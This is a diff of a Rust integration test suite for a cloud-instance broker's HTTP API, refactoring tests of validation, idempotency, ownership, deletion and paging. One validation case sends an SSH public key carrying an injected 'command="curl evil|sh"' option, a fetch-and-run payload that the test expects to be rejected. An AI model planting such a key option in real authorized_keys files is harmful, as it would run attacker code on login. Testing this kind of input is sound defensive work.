@@ -1,23 +1,36 @@
 //! The instances API over HTTP against the real actix app and a real Postgres.
 
-use crate::common::{count, exchange, TestApp, TestDb, ED25519};
+use crate::common::{exchange, Jobs, TestBroker, TestDb, ED25519};
 use cloudbrain::auth::Scope;
+use cloudbrain::broker::State;
+use cloudbrain::queue::JobKind;
 use serde_json::{json, Value};
 
-async fn setup() -> (TestDb, TestApp, String) {
-    let db = TestDb::new().await;
-    let app = TestApp::spawn(&db).await;
-    app.provider("fake", json!({"instance_types": ["standard", "premium"]}))
-        .await;
-    let token = app.token(Scope::Client).await;
-    (db, app, token)
+/// The API with provider `fake` offering `standard` (its default) and `premium`; nothing
+/// runs the jobs.
+async fn setup() -> TestBroker {
+    TestBroker::new()
+        .fake(json!({"instance_types": ["standard", "premium"]}))
+        .api_only()
+        .start()
+        .await
+}
+
+/// The ids of a list of instances.
+fn ids(list: &Value) -> Vec<String> {
+    let instances = list["instances"].as_array().unwrap();
+    instances
+        .iter()
+        .map(|i| i["id"].as_str().unwrap().to_owned())
+        .collect()
 }
 
 #[tokio::test]
 async fn create_records_the_instance_and_its_job_at_once() {
-    let (db, app, token) = setup().await;
-    let response = app
-        .post("/instances", &token)
+    let s = setup().await;
+    let response = s
+        .app
+        .post("/instances", &s.token)
         .json(&json!({"provider": "fake", "image": "ubuntu-24.04", "public_ssh_key": ED25519, "extra": {"ignored": true}}))
         .send()
         .await
@@ -35,21 +48,14 @@ async fn create_records_the_instance_and_its_job_at_once() {
         assert!(body[field].is_null(), "{field}: {body}");
     }
     assert!(body["created_at"].is_string() && body["updated_at"].is_string());
-
-    let mut conn = db.conn().await;
-    let jobs = count(
-        &mut conn,
-        &format!("SELECT count(*) AS n FROM jobs WHERE kind = 'create' AND instance_id = '{id}'"),
-    )
-    .await;
-    assert_eq!(jobs, 1);
-
-    assert_eq!(app.get_json(&location, &token).await, body);
+    let create = Jobs::OfKind(id, JobKind::CreateInstance);
+    assert_eq!(s.db.count_jobs(create).await, 1);
+    assert_eq!(s.client().get(&location).await.expect(200), body);
 }
 
 #[tokio::test]
 async fn bad_requests_get_clear_errors_naming_the_field() {
-    let (db, app, token) = setup().await;
+    let s = setup().await;
     let long_image = "i".repeat(256);
     let cases: Vec<Value> = vec![
         json!({"image": "ubuntu"}),
@@ -68,213 +74,106 @@ async fn bad_requests_get_clear_errors_naming_the_field() {
         json!({"provider": "fake", "image": "ubuntu", "public_ssh_key": format!("command=\"curl evil|sh\" {ED25519}")}),
         json!(["provider", "fake"]),
     ];
+    let post = || s.app.post("/instances", &s.token);
     let mut seen = String::new();
     for body in cases {
         let shown = body.to_string().replace(&long_image, "i × 256");
         let asked = format!("POST /instances {shown}");
-        seen += &exchange(&asked, app.post("/instances", &token).json(&body)).await;
+        seen += &exchange(&asked, post().json(&body)).await;
     }
-    let truncated = app
-        .post("/instances", &token)
+    let truncated = post()
         .header("content-type", "application/json")
         .body("{\"provider\": ");
     seen += &exchange("POST /instances {\"provider\": ", truncated).await;
     let huge = json!({"provider": "fake", "image": "ubuntu", "padding": "x".repeat(70 * 1024)});
-    let too_big = app.post("/instances", &token).json(&huge);
-    seen += &exchange("POST /instances (70 KiB)", too_big).await;
+    seen += &exchange("POST /instances (70 KiB)", post().json(&huge)).await;
     insta::assert_snapshot!(seen);
 
-    let mut conn = db.conn().await;
-    assert_eq!(
-        count(&mut conn, "SELECT count(*) AS n FROM instances").await,
-        0,
-        "a refused request left a row"
-    );
-    assert_eq!(count(&mut conn, "SELECT count(*) AS n FROM jobs").await, 0);
+    let rows = s.db.count_instances(None).await;
+    assert_eq!(rows, 0, "a refused request left a row");
+    assert_eq!(s.db.count_jobs(Jobs::All).await, 0);
 }
 
 #[tokio::test]
 async fn idempotency_key_replays_the_same_instance_and_refuses_another_body() {
-    let (db, app, token) = setup().await;
+    let s = setup().await;
+    let client = s.client();
     let body = json!({"provider": "fake", "image": "ubuntu", "instance_type": "premium"});
     let mut ids = Vec::new();
     for _ in 0..3 {
-        let response = app
-            .post("/instances", &token)
-            .header("Idempotency-Key", "job-1234")
-            .json(&body)
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(response.status(), 200);
-        ids.push(
-            response.json::<Value>().await.unwrap()["id"]
-                .as_str()
-                .unwrap()
-                .to_owned(),
-        );
+        let made = client.post_keyed("/instances", "job-1234", &body).await;
+        ids.push(made.expect(200)["id"].clone());
     }
     assert!(ids.iter().all(|id| *id == ids[0]), "{ids:?}");
 
     let other = json!({"provider": "fake", "image": "debian", "instance_type": "premium"});
-    let response = app
-        .post("/instances", &token)
-        .header("Idempotency-Key", "job-1234")
-        .json(&other)
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(response.status(), 409);
-    assert_eq!(
-        response.json::<Value>().await.unwrap()["field"],
-        "Idempotency-Key"
-    );
+    let refused = client.post_keyed("/instances", "job-1234", &other).await;
+    assert_eq!(refused.expect(409)["field"], "Idempotency-Key");
 
     // The same key from another token is another request.
-    let other_token = app.token(Scope::Client).await;
-    let response = app
-        .post("/instances", &other_token)
-        .header("Idempotency-Key", "job-1234")
-        .json(&body)
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(response.status(), 200);
-    assert_ne!(
-        response.json::<Value>().await.unwrap()["id"]
-            .as_str()
-            .unwrap(),
-        ids[0]
-    );
+    let another = s.client_with(Scope::Client).await;
+    let theirs = another.post_keyed("/instances", "job-1234", &body).await;
+    assert_ne!(theirs.expect(200)["id"], ids[0]);
 
-    let mut conn = db.conn().await;
-    assert_eq!(
-        count(&mut conn, "SELECT count(*) AS n FROM instances").await,
-        2
-    );
-    assert_eq!(count(&mut conn, "SELECT count(*) AS n FROM jobs").await, 2);
+    assert_eq!(s.db.count_instances(None).await, 2);
+    assert_eq!(s.db.count_jobs(Jobs::All).await, 2);
 }
 
 #[tokio::test]
 async fn concurrent_requests_with_one_idempotency_key_make_one_instance() {
-    let (db, app, token) = setup().await;
+    let s = setup().await;
+    let client = s.client();
     let body = json!({"provider": "fake", "image": "ubuntu"});
-    let requests = (0..8).map(|_| {
-        app.post("/instances", &token)
-            .header("Idempotency-Key", "burst")
-            .json(&body)
-            .send()
-    });
-    let responses = futures_util::future::join_all(requests).await;
-    let mut ids = std::collections::HashSet::new();
-    for response in responses {
-        let response = response.unwrap();
-        assert_eq!(response.status(), 200);
-        ids.insert(
-            response.json::<Value>().await.unwrap()["id"]
-                .as_str()
-                .unwrap()
-                .to_owned(),
-        );
-    }
+    let requests = (0..8).map(|_| client.post_keyed("/instances", "burst", &body));
+    let answers = futures_util::future::join_all(requests).await;
+    let ids: std::collections::HashSet<String> = answers
+        .into_iter()
+        .map(|answer| answer.expect(200)["id"].as_str().unwrap().to_owned())
+        .collect();
     assert_eq!(ids.len(), 1);
-    let mut conn = db.conn().await;
-    assert_eq!(count(&mut conn, "SELECT count(*) AS n FROM jobs").await, 1);
+    assert_eq!(s.db.count_jobs(Jobs::All).await, 1);
 }
 
 #[tokio::test]
 async fn instances_are_visible_to_their_owner_and_admins_only() {
-    let (_db, app, token) = setup().await;
-    let other = app.token(Scope::Client).await;
-    let admin = app.token(Scope::Admin).await;
-    let id = app.create(&token, "ubuntu").await["id"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    let s = setup().await;
+    let (owner, admin) = (s.client(), s.client_with(Scope::Admin).await);
+    let other = s.client_with(Scope::Client).await;
+    let id = s.create("ubuntu").await;
     let path = format!("/instances/{id}");
 
-    assert_eq!(app.get(&path, &token).send().await.unwrap().status(), 200);
-    assert_eq!(app.get(&path, &admin).send().await.unwrap().status(), 200);
-    let hidden = app.get(&path, &other).send().await.unwrap();
-    assert_eq!(hidden.status(), 404);
-    let unknown = app
-        .get(&format!("/instances/{}", uuid::Uuid::new_v4()), &token)
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(unknown.status(), 404);
+    owner.get(&path).await.expect(200);
+    admin.get(&path).await.expect(200);
+    let hidden = other.get(&path).await.expect(404);
+    let unknown = owner
+        .get(&format!("/instances/{}", uuid::Uuid::new_v4()))
+        .await;
     // No existence oracle: someone else's instance looks exactly like no instance.
-    assert_eq!(
-        hidden.json::<Value>().await.unwrap(),
-        unknown.json::<Value>().await.unwrap()
-    );
-    assert_eq!(
-        app.get("/instances/not-a-uuid", &token)
-            .send()
-            .await
-            .unwrap()
-            .status(),
-        404
-    );
-    assert_eq!(
-        app.delete(&path, &other).send().await.unwrap().status(),
-        404
-    );
-    assert_eq!(
-        app.get(&format!("{path}/events"), &other)
-            .send()
-            .await
-            .unwrap()
-            .status(),
-        404
-    );
-    assert_eq!(
-        app.get(&path, &token).send().await.unwrap().status(),
-        200,
-        "other's delete must not touch it"
-    );
+    assert_eq!(hidden, unknown.expect(404));
+    owner.get("/instances/not-a-uuid").await.expect(404);
+    other.delete(&path).await.expect(404);
+    other.get(&format!("{path}/events")).await.expect(404);
+    let untouched = owner.get(&path).await;
+    assert_eq!(untouched.status, 200, "other's delete must not touch it");
 }
 
 #[tokio::test]
 async fn delete_terminates_once_and_drops_the_unclaimed_create_job() {
-    let (db, app, token) = setup().await;
-    let id = app.create(&token, "ubuntu").await["id"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    let s = setup().await;
+    let id = s.create("ubuntu").await;
     let path = format!("/instances/{id}");
 
-    let first = app.delete(&path, &token).send().await.unwrap();
-    assert_eq!(first.status(), 200);
-    let first: Value = first.json().await.unwrap();
+    let first = s.delete(&id).await.expect(200);
     assert_eq!(first["state"], "terminating");
-    let again = app.delete(&path, &token).send().await.unwrap();
-    assert_eq!(again.status(), 200);
-    assert_eq!(again.json::<Value>().await.unwrap(), first);
+    assert_eq!(s.delete(&id).await.expect(200), first);
 
-    let mut conn = db.conn().await;
-    let jobs = |kind: &str| {
-        format!("SELECT count(*) AS n FROM jobs WHERE kind = '{kind}' AND instance_id = '{id}'")
-    };
-    assert_eq!(
-        count(&mut conn, &jobs("create")).await,
-        0,
-        "nobody had claimed the create job"
-    );
-    assert_eq!(
-        count(&mut conn, &jobs("remove")).await,
-        1,
-        "a repeated delete enqueued again"
-    );
+    let jobs = |kind| s.db.count_jobs(Jobs::OfKind(&id, kind));
+    let creates = jobs(JobKind::CreateInstance).await;
+    assert_eq!(creates, 0, "nobody had claimed the create job");
+    let removes = jobs(JobKind::RemoveInstance).await;
+    assert_eq!(removes, 1, "a repeated delete enqueued again");
 
-    let events: Value = app
-        .get(&format!("{path}/events"), &token)
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
+    let events = s.client().get(&format!("{path}/events")).await.expect(200);
     let states: Vec<(Value, Value)> = events["events"]
         .as_array()
         .unwrap()
@@ -290,71 +189,41 @@ async fn delete_terminates_once_and_drops_the_unclaimed_create_job() {
     );
 
     // Once terminated, GET and DELETE answer 410 with the instance.
-    diesel_async::RunQueryDsl::execute(
-        diesel::sql_query(format!(
-            "UPDATE instances SET state = 'terminated', terminated_at = now() WHERE id = '{id}'"
-        )),
-        &mut conn,
-    )
-    .await
-    .unwrap();
-    for response in [
-        app.get(&path, &token).send().await.unwrap(),
-        app.delete(&path, &token).send().await.unwrap(),
-    ] {
-        assert_eq!(response.status(), 410);
-        let body: Value = response.json().await.unwrap();
+    s.db.force_state(&id, State::Terminated).await;
+    for answer in [s.client().get(&path).await, s.delete(&id).await] {
+        let body = answer.expect(410);
         assert_eq!(body["id"], id.as_str());
         assert_eq!(body["state"], "terminated");
     }
-    assert_eq!(count(&mut conn, &jobs("remove")).await, 1);
+    assert_eq!(jobs(JobKind::RemoveInstance).await, 1);
 }
 
 #[tokio::test]
 async fn delete_keeps_a_create_job_a_worker_holds() {
-    let (db, app, token) = setup().await;
-    let id = app.create(&token, "ubuntu").await["id"]
-        .as_str()
-        .unwrap()
-        .to_owned();
-    let mut conn = db.conn().await;
-    diesel_async::RunQueryDsl::execute(
-        diesel::sql_query(format!("UPDATE jobs SET locked_by = 'worker-1', locked_until = now() + interval '1 minute' WHERE instance_id = '{id}'")),
-        &mut conn,
-    )
-    .await
-    .unwrap();
-    assert_eq!(
-        app.delete(&format!("/instances/{id}"), &token)
-            .send()
-            .await
-            .unwrap()
-            .status(),
-        200
-    );
-    let kinds = count(
-        &mut conn,
-        &format!("SELECT count(*) AS n FROM jobs WHERE instance_id = '{id}'"),
-    )
-    .await;
+    let s = setup().await;
+    let id = s.create("ubuntu").await;
+    s.db.lease_jobs(&id, "worker-1").await;
+    s.delete(&id).await.expect(200);
+    let kinds = s.db.count_jobs(Jobs::Of(&id)).await;
     assert_eq!(kinds, 2, "the running create job and the new remove job");
 }
 
 #[tokio::test]
 async fn list_pages_through_everything_newest_first() {
-    let (_db, app, token) = setup().await;
-    let other = app.token(Scope::Client).await;
-    let admin = app.token(Scope::Admin).await;
+    let s = setup().await;
+    let (client, admin) = (s.client(), s.client_with(Scope::Admin).await);
+    let other = s.client_with(Scope::Client).await;
     let mut made = Vec::new();
     for i in 0..25 {
-        made.push(
-            app.create(&token, &format!("image-{i}")).await["id"]
-                .as_str()
-                .unwrap()
-                .to_owned(),
-        );
+        made.push(s.create(&format!("image-{i}")).await);
     }
-    app.create(&other, "theirs").await;
+    other
+        .post(
+            "/instances",
+            &json!({"provider": "fake", "image": "theirs"}),
+        )
+        .await
+        .expect(200);
 
     let mut seen = Vec::new();
     let mut cursor: Option<String> = None;
@@ -364,22 +233,9 @@ async fn list_pages_through_everything_newest_first() {
         if let Some(c) = &cursor {
             path.push_str(&format!("&cursor={c}"));
         }
-        let page: Value = app
-            .get(&path, &token)
-            .send()
-            .await
-            .unwrap()
-            .json()
-            .await
-            .unwrap();
+        let page = client.get(&path).await.expect(200);
         pages += 1;
-        seen.extend(
-            page["instances"]
-                .as_array()
-                .unwrap()
-                .iter()
-                .map(|i| i["id"].as_str().unwrap().to_owned()),
-        );
+        seen.extend(ids(&page));
         match page["next_cursor"].as_str() {
             Some(c) => cursor = Some(c.to_owned()),
             None => break,
@@ -392,48 +248,16 @@ async fn list_pages_through_everything_newest_first() {
         "every instance once, newest first, none of another token's"
     );
 
-    let all: Value = app
-        .get("/instances?limit=1000", &admin)
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
-    assert_eq!(all["instances"].as_array().unwrap().len(), 26);
+    let all = admin.get("/instances?limit=1000").await.expect(200);
+    assert_eq!(ids(&all).len(), 26);
     assert!(all["next_cursor"].is_null());
 
-    app.delete(&format!("/instances/{}", made[0]), &token)
-        .send()
-        .await
-        .unwrap();
-    let terminating: Value = app
-        .get("/instances?state=terminating", &token)
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
-    assert_eq!(terminating["instances"].as_array().unwrap().len(), 1);
-    let none: Value = app
-        .get("/instances?provider=elsewhere", &token)
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
-    assert_eq!(none["instances"].as_array().unwrap().len(), 0);
-    let default: Value = app
-        .get("/instances", &admin)
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
-    assert_eq!(default["instances"].as_array().unwrap().len(), 26);
+    s.delete(&made[0]).await.expect(200);
+    let listed = async |path: &str| ids(&client.get(path).await.expect(200)).len();
+    assert_eq!(listed("/instances?state=terminating").await, 1);
+    assert_eq!(listed("/instances?provider=elsewhere").await, 0);
+    let default = admin.get("/instances").await.expect(200);
+    assert_eq!(ids(&default).len(), 26);
 
     for (query, field) in [
         ("limit=0", "limit"),
@@ -442,33 +266,18 @@ async fn list_pages_through_everything_newest_first() {
         ("state=sleeping", "state"),
         ("cursor=bogus", "cursor"),
     ] {
-        let response = app
-            .get(&format!("/instances?{query}"), &token)
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(response.status(), 422, "{query}");
-        assert_eq!(
-            response.json::<Value>().await.unwrap()["field"],
-            field,
-            "{query}"
-        );
+        let refused = client.get(&format!("/instances?{query}")).await;
+        assert_eq!(refused.expect(422)["field"], field, "{query}");
     }
 }
 
 #[tokio::test]
 async fn providers_are_listed_without_configuration() {
-    let (_db, app, token) = setup().await;
+    let s = setup().await;
+    let app = &s.app;
     app.provider("fake-slow", json!({"boot_time_ms": 60000, "seed": 99}))
         .await;
-    let body: Value = app
-        .get("/providers", &token)
-        .send()
-        .await
-        .unwrap()
-        .json()
-        .await
-        .unwrap();
+    let body = s.client().get("/providers").await.expect(200);
     assert_eq!(
         body,
         json!({"providers": [{"name": "fake", "type": "fake"}, {"name": "fake-slow", "type": "fake"}]})
@@ -478,7 +287,8 @@ async fn providers_are_listed_without_configuration() {
 
 #[tokio::test]
 async fn service_routes_unknown_routes_and_wrong_methods_answer_json() {
-    let (_db, app, token) = setup().await;
+    let s = setup().await;
+    let app = &s.app;
     assert_eq!(app.anonymous_status("/healthz").await, 200);
     assert_eq!(app.anonymous_status("/readyz").await, 200);
     let version: Value = app
@@ -492,9 +302,8 @@ async fn service_routes_unknown_routes_and_wrong_methods_answer_json() {
         .unwrap();
     assert_eq!(version["version"], env!("CARGO_PKG_VERSION"));
 
-    let response = app.get("/nowhere", &token).send().await.unwrap();
-    assert_eq!(response.status(), 404);
-    assert!(response.json::<Value>().await.unwrap()["errors"].is_array());
+    let nowhere = s.client().get("/nowhere").await.expect(404);
+    assert!(nowhere["errors"].is_array());
     // 405 says what the route answers.
     for (method, path, allow) in [
         (reqwest::Method::PUT, "/instances", "GET, POST"),
@@ -530,7 +339,8 @@ async fn service_routes_unknown_routes_and_wrong_methods_answer_json() {
 
 #[tokio::test]
 async fn openapi_document_describes_every_route_and_error() {
-    let (_db, app, _token) = setup().await;
+    let s = setup().await;
+    let app = &s.app;
     let doc: Value = app
         .client
         .get(app.url("/openapi.json"))
@@ -603,12 +413,13 @@ async fn openapi_document_describes_every_route_and_error() {
 
 #[tokio::test]
 async fn default_empty_or_absent_instance_type_is_the_providers_default() {
-    let (_db, app, token) = setup().await;
-    app.provider(
-        "fake-premium",
-        json!({"instance_types": ["standard", "premium"], "default_instance_type": "premium"}),
-    )
-    .await;
+    let s = setup().await;
+    s.app
+        .provider(
+            "fake-premium",
+            json!({"instance_types": ["standard", "premium"], "default_instance_type": "premium"}),
+        )
+        .await;
     for (provider, expected) in [("fake", "standard"), ("fake-premium", "premium")] {
         for body in [
             json!({"provider": provider, "image": "ubuntu"}),
@@ -616,14 +427,7 @@ async fn default_empty_or_absent_instance_type_is_the_providers_default() {
             json!({"provider": provider, "image": "ubuntu", "instance_type": "default"}),
             json!({"provider": provider, "image": "ubuntu", "instance_type": null, "public_ssh_key": ""}),
         ] {
-            let response = app
-                .post("/instances", &token)
-                .json(&body)
-                .send()
-                .await
-                .unwrap();
-            assert_eq!(response.status(), 200, "{body}");
-            let created: Value = response.json().await.unwrap();
+            let created = s.client().post("/instances", &body).await.expect(200);
             assert_eq!(created["instance_type"], expected, "{body}");
         }
     }
@@ -636,8 +440,9 @@ fn forged_cursor(micros: i64) -> String {
 
 #[tokio::test]
 async fn hostile_input_gets_a_clean_4xx_never_a_500() {
-    let (_db, app, token) = setup().await;
-    app.create(&token, "ubuntu").await;
+    let s = setup().await;
+    let (app, token) = (&s.app, &s.token);
+    s.create("ubuntu").await;
     let year = 365 * 24 * 3600 * 1_000_000_i64;
     let queries = [
         ("?provider=%00".to_owned(), 422, "provider"),
@@ -658,14 +463,8 @@ async fn hostile_input_gets_a_clean_4xx_never_a_500() {
         ),
     ];
     for (query, status, field) in queries {
-        let response = app
-            .get(&format!("/instances{query}"), &token)
-            .send()
-            .await
-            .unwrap();
-        assert_eq!(response.status().as_u16(), status, "{query}");
-        let body: Value = response.json().await.unwrap();
-        assert_eq!(body["field"], field, "{query}: {body}");
+        let refused = s.client().get(&format!("/instances{query}")).await;
+        assert_eq!(refused.expect(status)["field"], field, "{query}");
     }
 
     let bodies = [
@@ -707,7 +506,7 @@ async fn hostile_input_gets_a_clean_4xx_never_a_500() {
     ];
     for (body, status, field) in bodies {
         let response = app
-            .post("/instances", &token)
+            .post("/instances", token)
             .header("content-type", "application/json")
             .body(body)
             .send()
@@ -728,7 +527,7 @@ async fn hostile_input_gets_a_clean_4xx_never_a_500() {
         (Some("application/merge-patch+json"), 200),
         (None, 200),
     ] {
-        let mut request = app.post("/instances", &token).body(json_body);
+        let mut request = app.post("/instances", token).body(json_body);
         if let Some(content_type) = content_type {
             request = request.header("content-type", content_type);
         }
@@ -755,7 +554,8 @@ async fn hostile_input_gets_a_clean_4xx_never_a_500() {
 #[tokio::test]
 async fn a_body_that_stalls_mid_upload_is_a_408() {
     use tokio::io::{AsyncReadExt, AsyncWriteExt};
-    let (_db, app, token) = setup().await;
+    let s = setup().await;
+    let (app, token) = (&s.app, &s.token);
     let mut stream = tokio::net::TcpStream::connect(app.base.trim_start_matches("http://"))
         .await
         .unwrap();
@@ -806,20 +606,19 @@ async fn a_stored_state_or_scope_nobody_knows_is_a_load_error_not_a_guess() {
 
 #[tokio::test]
 async fn requests_read_what_a_provider_offers_without_opening_its_sealed_config() {
-    let (db, app, token) = setup().await;
-    let mut conn = db.conn().await;
+    let s = setup().await;
     // Break the seal: a request that opened it would fail.
+    let mut conn = s.db.conn().await;
     crate::common::exec(&mut conn, "UPDATE providers SET config = '\\x00'::bytea").await;
-    let ask = |instance_type: &'static str| {
-        app.post("/instances", &token)
-            .json(&json!({"provider": "fake", "image": "ubuntu", "instance_type": instance_type}))
-            .send()
+    let client = s.client();
+    let ask = async |instance_type: &str| {
+        let body = json!({"provider": "fake", "image": "ubuntu", "instance_type": instance_type});
+        client.post("/instances", &body).await
     };
-    let made: Value = ask("premium").await.unwrap().json().await.unwrap();
+    let made = ask("premium").await.expect(200);
     assert_eq!(made["instance_type"], "premium", "{made}");
-    let refused = ask("huge").await.unwrap();
-    assert_eq!(refused.status(), 422);
-    let types = app.get_json("/openapi.json", &token).await;
+    ask("huge").await.expect(422);
+    let types = client.get("/openapi.json").await.expect(200);
     assert!(
         types.to_string().contains("premium"),
         "the offer is published"
@@ -828,11 +627,11 @@ async fn requests_read_what_a_provider_offers_without_opening_its_sealed_config(
 
 #[tokio::test]
 async fn a_provider_registered_before_offers_were_stored_gets_its_offer_on_first_use() {
-    let (db, app, token) = setup().await;
-    let mut conn = db.conn().await;
+    let s = setup().await;
+    let mut conn = s.db.conn().await;
     crate::common::exec(&mut conn, "UPDATE providers SET offer = NULL").await;
-    let made: Value = app.create(&token, "ubuntu").await;
-    assert_eq!(made["instance_type"], "standard", "{made}");
+    let id = s.create("ubuntu").await;
+    assert_eq!(s.row(&id).await.instance_type, "standard");
     let offer = crate::common::text(&mut conn, "SELECT offer::text AS v FROM providers").await;
     let offer: Value = serde_json::from_str(&offer.unwrap()).unwrap();
     assert_eq!(offer["instance_types"], json!(["standard", "premium"]));
@@ -841,7 +640,8 @@ async fn a_provider_registered_before_offers_were_stored_gets_its_offer_on_first
 
 #[tokio::test]
 async fn every_refusal_says_what_is_wrong_in_cloud_brains_envelope() {
-    let (_db, app, token) = setup().await;
+    let s = setup().await;
+    let (app, token) = (&s.app, &s.token);
     let unknown = "00000000-0000-4000-8000-000000000000";
     let body = json!({"provider": "fake", "image": "ubuntu"});
     let mut seen = String::new();
@@ -864,7 +664,7 @@ async fn every_refusal_says_what_is_wrong_in_cloud_brains_envelope() {
         "/instances?cursor=x",
     ];
     for path in refused_gets {
-        seen += &exchange(&format!("GET {path}"), app.get(path, &token)).await;
+        seen += &exchange(&format!("GET {path}"), app.get(path, token)).await;
     }
     seen += &exchange(
         "PUT /instances",
@@ -875,13 +675,13 @@ async fn every_refusal_says_what_is_wrong_in_cloud_brains_envelope() {
     .await;
     seen += &exchange(
         "POST /instances (Content-Type: text/plain)",
-        app.post("/instances", &token)
+        app.post("/instances", token)
             .header("content-type", "text/plain")
             .body(body.to_string()),
     )
     .await;
     let keyed = |image: &str| {
-        app.post("/instances", &token)
+        app.post("/instances", token)
             .header("Idempotency-Key", "build-1")
             .json(&json!({"provider": "fake", "image": image}))
     };
